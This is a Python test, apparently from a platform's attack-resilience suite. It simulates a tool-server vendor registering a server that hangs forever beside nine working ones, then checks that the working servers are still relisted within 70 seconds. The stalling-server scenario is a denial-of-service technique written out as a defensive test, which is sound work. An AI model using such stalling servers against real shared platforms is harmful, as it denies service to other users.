@attack("L6", attacker="vendor of a tool server", tried="a server that never answers, beside nine good ones", quick=False)
def never_answer(world):
    silent, vendor = Listener(lambda asked: time.sleep(3600)), ToolVendor([{"name": "echo", "inputSchema": {"type": "object"}}])
    status, slow, _ = world.install_server(world.unique("slow"), f"{silent.url}/mcp", timeout_ms=600000)
    assert status == 201, slow
    servers = [install_vendor(world, world.unique("good"), vendor) for _ in range(9)]
    names = ", ".join(f"'{server.split('_', 1)[1]}'" for server in servers)
    longest, last, end = 0.0, None, time.monotonic() + 240
    changed = time.monotonic()
    while time.monotonic() < end:
        oldest = world.sql(f"SELECT min(listed_at) AS at FROM tool_servers WHERE server_id IN ({names})")[0]["at"]
        if oldest != last:
            last, changed = oldest, time.monotonic()
        longest = max(longest, time.monotonic() - changed)
        time.sleep(0.5)
    for server in [*servers, slow["server_id"]]:
        world.delete_server(server)
    assert silent.requests, "the silent server was never asked"
    assert longest <= 70, f"the good ones were not listed for {longest:.0f} s"
    figure("tool_servers_relisted_worst", round(longest, 1), "s")
    return f"the good ones are listed again at least every {longest:.0f} s"
